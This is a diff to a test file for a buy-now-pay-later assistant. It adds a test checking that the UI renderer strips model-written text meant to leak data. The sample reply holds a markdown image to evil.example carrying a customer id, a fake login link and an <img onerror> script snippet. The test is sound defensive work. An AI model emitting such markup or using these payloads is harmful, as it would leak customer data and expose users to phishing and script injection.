@@ -169,3 +169,17 @@ def test_dev_set_false_refusal_rate(harness: Harness) -> None:
     rate = metrics.false_refusal_rate(rows)
     refused = [r["id"] for r in rows if r["outcome"] == "refuse" and r["expected_outcome"] != "refuse"]
     assert rate <= 0.05, f"false-refusal rate {rate:.3f}: {refused}"
+
+
+def test_model_written_text_cannot_carry_data_off_the_page() -> None:
+    from bnpl_assistant.conversation import Reply
+    from bnpl_assistant.ui.render import model_markdown, reply_markdown
+
+    attack = ("Sure! ![x](https://evil.example/p.png?d=cust-001) [verify here](https://evil.example/login) "
+              "or www.evil.example/x <img src=x onerror=alert(1)> The late fee is **7 EUR** [en/late-fee#0].")
+    shown = model_markdown(attack)
+    assert "evil.example" not in shown and "<img" not in shown and "![" not in shown
+    assert "verify here" in shown and "**7 EUR** [en/late-fee#0]" in shown
+    reply = Reply(text=attack, outcome="answer", topic="late-fees", retrieved_topics=[], sources=[],
+                  language="en", confidence=1.0, model_path="openai:m")
+    assert "evil.example" not in reply_markdown(reply)
